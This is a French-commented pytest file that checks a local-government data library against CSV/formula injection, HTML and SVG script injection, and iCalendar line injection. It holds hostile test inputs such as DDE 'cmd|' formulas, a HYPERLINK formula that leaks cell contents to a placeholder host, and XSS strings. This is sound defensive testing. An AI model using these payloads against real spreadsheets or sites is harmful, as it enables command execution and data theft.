"""Ce qu'un utilisateur a écrit reste une donnée dans chaque rendu (issue 21, « Safe to open,
safe to serve ») : aucun texte — nom d'élu, de commune, de garant, libellé, titre, hypothèse —
ne devient une formule dans un CSV ouvert par un tableur ni dans un classeur XLSX, le HTML
échappe tout, le JSON garde les textes tels quels (c'est une donnée pour un programme).

Règle suivie, celle de l'OWASP (« CSV Injection ») : une cellule de texte qui commence par
« = », « + », « - », « @ », une tabulation ou un retour chariot (et les formes pleine chasse
« ＝＋－＠ ») est préfixée d'une apostrophe dans un CSV ; dans un classeur, elle est une cellule
de texte explicite (jamais ``<f>``). Les nombres restent des nombres : « -12,50 » n'est pas
neutralisé.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import enum
import html
import io
import json
import re
import zipfile
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from collectivites.cli import main
from collectivites.rendu import rendre
from collectivites.tables import Colonne, Document, Fait, Genre, Graphique, Table
from tests.hostiles import INDEMNITES

openpyxl = pytest.importorskip("openpyxl")

#: Début d'une formule pour un tableur (OWASP) ; écrit ici indépendamment du code testé.
DANGEREUX = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"

#: Textes hostiles sans caractère de contrôle : ils peuvent servir de titre ou de libellé.
IMPRIMABLES = [
    '=HYPERLINK("http://x.example/?"&C2,"voir")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "  =1+1",  # un import qui retire les espaces de tête le lirait comme une formule
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=1+1<script>alert(1)</script>",
]
#: Textes hostiles qui ne peuvent être que des valeurs (les titres refusent les contrôles).
VALEURS = [*IMPRIMABLES, "\t=1+1", "\r=1+1", "\r\n=1+1"]


class Nature(enum.Enum):
    """Une énumération dont la valeur (fichiers) et le libellé (écran) sont hostiles."""

    PIEGE = "=cmd|' /C calc'!A0"

    @property
    def libelle(self) -> str:
        return "@libellé piégé"


def _dangereux(texte: str) -> bool:
    return any(texte.startswith(c) or texte.lstrip().startswith(c) for c in DANGEREUX)


def document_hostile(valeur: str, titre: str) -> Document:
    """``valeur`` partout où une valeur peut aller, ``titre`` partout où un titre ou un libellé
    peut aller ; un montant négatif et un taux à côté, qui doivent rester des nombres."""
    table = Table(
        cle="elus",
        titre=titre,
        colonnes=(
            Colonne(cle="nom", libelle=titre, genre=Genre.TEXTE),
            Colonne(cle=titre, libelle="Code", genre=Genre.CODE),
            Colonne(cle="nature", libelle="Nature", genre=Genre.CODE),
            Colonne(cle="annee", libelle="Année", genre=Genre.ANNEE),
            Colonne(cle="montant", libelle="Montant", genre=Genre.MONTANT, total=True),
            Colonne(cle="taux", libelle=titre, genre=Genre.TAUX),
        ),
        lignes=(
            (valeur, valeur, Nature.PIEGE, 2024, Decimal("-12.50"), Decimal("0.0135")),
            ("Oraison", "ok", Nature.PIEGE, 2025, Decimal("3.00"), Decimal("-0.005")),
        ),
        graphique=Graphique(titre=titre, abscisse="annee", barres=("montant",), series="nom"),
    )
    partie = Document(
        titre=titre,
        cle="p",
        faits=(Fait(cle="garant", libelle=titre, valeur=valeur),),
        hypotheses=(valeur,),
    )
    return Document(
        titre=titre,
        faits=(
            Fait(cle="nom", libelle=titre, valeur=valeur),
            Fait(cle="code", libelle="Code", valeur=valeur, genre=Genre.CODE),
            Fait(cle="solde", libelle="Solde", valeur=Decimal("-12.50"), genre=Genre.MONTANT),
        ),
        tables=(table,),
        hypotheses=(valeur, "Hypothèse ordinaire"),
        parties=(partie,),
    )


# --- CSV ---------------------------------------------------------------------------------------


def _cellules_csv(texte: str, separateur: str) -> list[list[str]]:
    return list(
        csv.reader(io.StringIO(texte.removeprefix("\ufeff"), newline=""), delimiter=separateur)
    )


def _verifier_csv(texte: str, separateur: str, nombre: str) -> list[list[str]]:
    """Chaque cellule qui commence comme une formule est préfixée d'une apostrophe, ou est un
    nombre écrit par la bibliothèque (``nombre`` : son motif)."""
    lignes = _cellules_csv(texte, separateur)
    for ligne in lignes:
        for cellule in ligne:
            assert not _dangereux(cellule) or re.fullmatch(nombre, cellule), repr(cellule)
    return lignes


@pytest.mark.parametrize("valeur", VALEURS)
def test_csv_pour_les_programmes(valeur: str) -> None:
    titre = IMPRIMABLES[0]
    lignes = _verifier_csv(rendre(document_hostile(valeur, titre), "csv"), ",", r"-\d+\.\d+")
    assert lignes[0] == ["nom", "'" + titre, "nature", "annee", "montant", "taux"]
    piege = "'" + Nature.PIEGE.value
    assert lignes[1:] == [
        ["'" + valeur, "'" + valeur, piege, "2024", "-12.50", "1.35"],
        ["Oraison", "ok", piege, "2025", "3.00", lignes[2][5]],
    ]
    assert Decimal(lignes[2][5]) == Decimal("-0.5")  # un taux négatif reste un nombre


@pytest.mark.parametrize("valeur", VALEURS)
def test_csv_pour_tableur_francais(valeur: str) -> None:
    titre = IMPRIMABLES[1]
    lignes = _verifier_csv(rendre(document_hostile(valeur, titre), "csv-excel"), ";", r"-\d+,\d+")
    assert lignes[0] == ["'" + titre, "Code", "Nature", "Année", "Montant", f"'{titre} (%)"]
    assert lignes[1] == [
        "'" + valeur,
        "'" + valeur,
        "'" + Nature.PIEGE.value,
        "2024",
        "-12,50",
        "1,35",
    ]
    assert lignes[2] == ["Oraison", "ok", "'" + Nature.PIEGE.value, "2025", "3,00", lignes[2][5]]
    assert Decimal(lignes[2][5].replace(",", ".")) == Decimal("-0.5")
    assert lignes[3] == ["Total", "", "", "", "-9,50", ""]


def test_les_textes_inoffensifs_restent_intacts() -> None:
    """Un texte qui ne commence pas comme une formule n'est pas touché (une apostrophe en tête
    d'un texte ordinaire serait une altération)."""
    for texte in ["Oraison", "Mairie d'Oraison", "a=b", "1 + 1", "12,50", "'déjà"]:
        lignes = _cellules_csv(rendre(document_hostile(texte, "Élus"), "csv"), ",")
        assert lignes[1][0] == texte


# --- XLSX --------------------------------------------------------------------------------------


def _classeur(document: Document, tmp_path: Path) -> Any:
    chemin = tmp_path / "c.xlsx"
    chemin.write_bytes(rendre(document, "xlsx"))  # type: ignore[arg-type]
    with zipfile.ZipFile(chemin) as archive:
        for nom in archive.namelist():
            if nom.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(nom) and b"<f " not in archive.read(nom), nom
            if nom.startswith("xl/charts/"):  # seules formules : nos références de séries
                for ref in re.findall(rb"<c:f>([^<]*)</c:f>", archive.read(nom)):
                    assert re.fullmatch(rb"'[^']*(''[^']*)*'!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", ref)
    return openpyxl.load_workbook(chemin)


def _textes(classeur: Any) -> list[Any]:
    """Chaque cellule du classeur ; aucune n'est une formule ni une erreur, chaque texte qui
    commence comme une formule porte le préfixe d'apostrophe (``quotePrefix``)."""
    cellules = [c for feuille in classeur for ligne in feuille.iter_rows() for c in ligne]
    for cellule in cellules:
        assert cellule.data_type not in ("f", "e"), (cellule.coordinate, cellule.value)
        if isinstance(cellule.value, str):
            assert cellule.data_type == "s"
            # (l'inverse ne vaut pas : un « \r » écrit se relit « \n », XML 1.0, § 2.11)
            assert cellule.quotePrefix or not _dangereux(cellule.value), cellule.value
    return cellules


def _xml(texte: str) -> str:
    """Ce qu'un lecteur XML rend d'un texte : fins de ligne normalisées (XML 1.0, § 2.11)."""
    return texte.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("valeur", VALEURS)
def test_classeur_sans_formule(tmp_path: Path, valeur: str) -> None:
    titre = IMPRIMABLES[3]
    classeur = _classeur(document_hostile(valeur, titre), tmp_path)
    cellules = _textes(classeur)
    nom = "@SUM(1+1)-cmd|' -C calc'!A0"  # « * » et « / » interdits dans un nom de feuille
    assert classeur.sheetnames == ["Hypothèses", nom, "Graphique"]
    feuille = classeur[nom]
    # le texte lu est le texte écrit (l'apostrophe est un style, pas un caractère)
    assert [c.value for c in feuille[2]][:3] == [_xml(valeur), _xml(valeur), "@libellé piégé"]
    assert feuille["A1"].value == titre and feuille["F1"].value == titre
    assert not any(c.quotePrefix for c in [*feuille[3][:2], *feuille[1][1:5], feuille["A4"]])
    montant = feuille["E2"]
    assert (montant.data_type, montant.value) == ("n", -12.5)
    assert feuille["F3"].value == -0.005 and feuille["E4"].value == -9.5
    hypotheses = [c.value for c in classeur["Hypothèses"]["B"]]
    # faits « nom » et « code », hypothèse ; fait et hypothèse de la partie
    assert hypotheses.count(_xml(valeur)) == 5
    assert classeur["Hypothèses"]["A1"].value == titre
    assert classeur["Hypothèses"]["B4"].value == -12.5
    # les séries du graphique croisé portent les noms hostiles, en texte
    assert [c.value for c in classeur["Graphique"][1]] == [
        "Année",
        "Montant",
        _xml(valeur),
        "Oraison",
    ]
    assert sum(isinstance(c.value, str) for c in cellules) > 20


def test_valeur_d_erreur_et_caracteres_hors_xml(tmp_path: Path) -> None:
    """« #N/A » reste un texte (openpyxl en ferait une valeur d'erreur) ; un caractère de
    contrôle, qu'un classeur ne peut pas contenir, devient « \ufffd » au lieu d'un plantage."""
    document = document_hostile("#N/A", "Élus")
    document = Document(titre="T", tables=document.tables, hypotheses=("a\x00b\x1b=\ufffe",))
    classeur = _classeur(document, tmp_path)
    _textes(classeur)
    assert classeur["Élus"]["A2"].value == "#N/A"
    assert classeur["Hypothèses"]["B2"].value == "a\ufffdb\ufffd=\ufffd"


# --- HTML, JSON, iCalendar, images ------------------------------------------------------------


class _Balises(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.balises: set[str] = set()
        self.attributs: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.balises.add(tag)
        self.attributs.extend(attrs)


@pytest.mark.parametrize(
    "valeur", [*VALEURS, '"><img src=x onerror=alert(1)>', "</table><script>x</script>"]
)
def test_html_echappe_tout(valeur: str) -> None:
    titre = "<b>=1+1</b> & «'\"»"
    rendu = rendre(document_hostile(valeur, titre), "html")
    assert isinstance(rendu, str)
    analyseur = _Balises()
    analyseur.feed(rendu)
    permises = {"div", "h3", "h4", "dl", "dt", "dd", "table", "caption", "thead", "tbody"}
    assert analyseur.balises <= permises | {"tfoot", "tr", "th", "td", "ul", "li"}
    assert set(analyseur.attributs) <= {("class", "collectivites"), ("style", "text-align:right")}
    assert html.escape(valeur) in rendu and html.escape(titre) in rendu


@pytest.mark.parametrize("valeur", VALEURS)
def test_json_garde_les_textes_tels_quels(valeur: str) -> None:
    """Le JSON est une donnée pour un programme : aucune apostrophe ajoutée, les nombres en
    texte exact."""
    objet = json.loads(rendre(document_hostile(valeur, "=titre"), "json"))
    assert objet["titre"] == "=titre" and objet["nom"] == valeur and objet["code"] == valeur
    assert objet["hypotheses"] == [valeur, "Hypothèse ordinaire"]
    assert objet["elus"][0]["nom"] == valeur and objet["elus"][0]["montant"] == "-12.50"
    assert objet["parties"][0]["hypotheses"] == [valeur]


def test_ics_un_retour_chariot_n_ouvre_pas_d_evenement() -> None:
    agenda = Table(
        cle="agenda",
        titre="Agenda",
        role="agenda",
        colonnes=(
            Colonne(cle="date", libelle="Date", genre=Genre.DATE),
            Colonne(cle="libelle", libelle="Libellé", genre=Genre.TEXTE),
        ),
        lignes=((dt.date(2024, 1, 2), "Bilan\rEND:VEVENT\r\nBEGIN:VEVENT\nSUMMARY:pirate"),),
    )
    ics = rendre(
        Document(titre="A", tables=(agenda,)),
        "ics",
        horodatage=dt.datetime(2024, 1, 1, tzinfo=dt.UTC),
    )
    assert isinstance(ics, str)
    assert "\r" not in ics.replace("\r\n", "") and "\n" not in ics.replace("\r\n", "")
    depliees = ics.replace("\r\n ", "").split("\r\n")
    assert depliees.count("BEGIN:VEVENT") == 1 and depliees.count("END:VEVENT") == 1
    assert "SUMMARY:Bilan\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:pirate" in depliees


def test_graphique_un_dollar_n_est_pas_du_mathtext() -> None:
    """Un nom de série « $\\frac$ » faisait échouer matplotlib (mathtext) ; il est écrit tel
    quel."""
    pytest.importorskip("matplotlib")
    table = document_hostile("$\\frac$", "Élus").tables[0]
    for graphique in [
        Graphique(titre="T", abscisse="annee", courbes=("montant",), series="nom"),
        Graphique(titre="$\\frac$", abscisse="annee", barres=("montant",)),
        Graphique(titre="T", abscisse="nom", barres=("montant",)),  # graduations
    ]:
        document = Document(titre="D", tables=(attrs.evolve(table, graphique=graphique),))
        svg = rendre(document, "svg")
        assert isinstance(svg, str) and "<svg" in svg


def test_svg_sans_balise_venue_d_un_nom() -> None:
    """La page web insère le SVG tel quel : un nom de série ou un titre n'y ouvre aucune balise
    (matplotlib échappe le texte de ses commentaires)."""
    pytest.importorskip("matplotlib")
    table = document_hostile("--><script>alert(1)</script><!--", "Élus").tables[0]
    graphique = Graphique(
        titre="</svg><script>x</script>", abscisse="annee", courbes=("montant",), series="nom"
    )
    svg = rendre(Document(titre="D", tables=(attrs.evolve(table, graphique=graphique),)), "svg")
    assert isinstance(svg, str) and "<script" not in svg and "</svg><" not in svg


def test_texte_egare_dans_une_colonne_de_nombres() -> None:
    """Un ``str`` dans une colonne d'entiers (donnée mal typée) est un texte : neutralisé."""
    table = Table(
        cle="t",
        titre="T",
        colonnes=(Colonne(cle="n", libelle="N", genre=Genre.ENTIER),),
        lignes=(("=1+1",), (-3,)),
    )
    document = Document(titre="T", tables=(table,))
    assert _cellules_csv(rendre(document, "csv"), ",") == [["n"], ["'=1+1"], ["-3"]]
    assert _cellules_csv(rendre(document, "csv-excel"), ";") == [["N"], ["'=1+1"], ["-3"]]


# --- propriétés --------------------------------------------------------------------------------

_imprimable = st.characters(blacklist_categories=("C",))
titres_hostiles = st.builds(
    lambda debut, reste: debut + reste,
    st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20"),
    st.text(_imprimable, max_size=40),
)
valeurs_hostiles = st.builds(
    lambda espaces, debut, reste: espaces + debut + reste,
    st.sampled_from(["", " ", "  "]),
    st.sampled_from(DANGEREUX),
    st.text(max_size=40),
)


@given(valeur=valeurs_hostiles, titre=titres_hostiles)
def test_aucun_texte_hostile_ne_devient_formule(valeur: str, titre: str) -> None:
    document = document_hostile(valeur, titre)
    for format_, separateur, nombre in [
        ("csv", ",", r"-\d+\.\d+"),
        ("csv-excel", ";", r"-\d+,\d+"),
    ]:
        lignes = _verifier_csv(rendre(document, format_), separateur, nombre)  # type: ignore[arg-type]
        # « \t » en tête est dangereux ; « \t » après une espace, sur du blanc seul, ne l'est pas
        assert lignes[1][0] == ("'" + valeur if _dangereux(valeur) else valeur)
    octets = rendre(document, "xlsx")
    assert isinstance(octets, bytes)
    classeur = openpyxl.load_workbook(io.BytesIO(octets))
    _textes(classeur)
    lue = classeur.worksheets[1]["A2"].value
    hors_xml = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
    assert lue == _xml(hors_xml.sub("\ufffd", valeur))
    assert json.loads(rendre(document, "json"))["nom"] == valeur


# --- ligne de commande et service web ---------------------------------------------------------

ELU = '=HYPERLINK("http://x.example","y")'
DOSSIER = INDEMNITES.replace('nom = "Maire"', f"nom = '{ELU}'").replace(
    'nom = "Oraison"', "nom = \"+1+cmd|' /C calc'!A0\""
)


def _lancer(*argv: str) -> tuple[int, str, str]:
    sortie, erreurs = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(sortie), contextlib.redirect_stderr(erreurs):
        code = main(list(argv))
    return code, sortie.getvalue(), erreurs.getvalue()


def test_ligne_de_commande_csv_excel(tmp_path: Path) -> None:
    assert ELU in DOSSIER and "cmd|" in DOSSIER
    (tmp_path / "d.toml").write_text(DOSSIER, encoding="utf-8")
    code, sortie, erreurs = _lancer(
        "indemnites", "calculer", str(tmp_path / "d.toml"), "--format", "csv-excel"
    )
    assert (code, erreurs) == (0, "")
    lignes = _verifier_csv(sortie, ";", r"-\d+,\d+")
    assert lignes[1][:2] == ["'" + ELU, "maire"]


def test_ligne_de_commande_xlsx(tmp_path: Path) -> None:
    (tmp_path / "d.toml").write_text(DOSSIER, encoding="utf-8")
    sortie = tmp_path / "f.xlsx"
    code, _, erreurs = _lancer(
        "indemnites",
        "calculer",
        str(tmp_path / "d.toml"),
        "--format",
        "xlsx",
        "--sortie",
        str(sortie),
    )
    assert (code, erreurs) == (0, "")
    classeur = openpyxl.load_workbook(sortie)
    cellules = _textes(classeur)
    valeurs = {c.value: c for c in cellules}
    assert valeurs[ELU].data_type == "s" and valeurs[ELU].quotePrefix
    assert valeurs["+1+cmd|' /C calc'!A0"].data_type == "s"


def test_service_web_memes_octets(tmp_path: Path) -> None:
    """L'API sert les octets de la ligne de commande, neutralisés de même."""
    pytest.importorskip("starlette", reason="extra « web » absent")
    from starlette.testclient import TestClient

    from collectivites.web import application

    client = TestClient(application(), raise_server_exceptions=False)
    reponse = client.post(
        "/api/indemnites/calculer", json={"dossier": DOSSIER, "format": "csv-excel"}
    )
    assert reponse.status_code == 200, reponse.text
    (tmp_path / "d.toml").write_text(DOSSIER, encoding="utf-8")
    code, sortie, _ = _lancer(
        "indemnites", "calculer", str(tmp_path / "d.toml"), "--format", "csv-excel"
    )
    assert code == 0 and reponse.content.decode("utf-8") == sortie
    lignes = _verifier_csv(sortie, ";", r"-\d+,\d+")
    assert lignes[1][0] == "'" + ELU
    reponse = client.post("/api/indemnites/calculer", json={"dossier": DOSSIER, "format": "xlsx"})
    assert reponse.status_code == 200
    _textes(openpyxl.load_workbook(io.BytesIO(reponse.content)))


@pytest.mark.parametrize("format_", ["csv", "csv-excel"])
def test_un_csv_ecrit_par_la_bibliotheque_se_relit_a_l_identique(format_: str) -> None:
    """L'apostrophe de neutralisation est retirée à la lecture : « -0,2 % », « =1+1 »,
    « @x » et « +33 » se relisent tels quels ; une apostrophe qui ne précède pas un début de
    formule reste."""
    from collectivites.chargement import lire_csv
    from collectivites.rendu import rendre
    from collectivites.tables import Document, Genre, Table, colonnes

    textes = ["-0,2 %", "=1+1", "@x", "+33", "  =1", "'quote", "Oraison"]
    table = Table(
        cle="t",
        titre="T",
        colonnes=colonnes(("rang", "Rang", Genre.ENTIER), ("texte", "Texte", Genre.TEXTE)),
        lignes=tuple(enumerate(textes)),
    )
    ecrit = rendre(Document(titre="T", tables=(table,)), format_)
    assert isinstance(ecrit, str)
    _entetes, lignes = lire_csv(ecrit)
    relus = [list(ligne.values())[1] for ligne in lignes]
    assert relus == [t.strip() for t in textes]
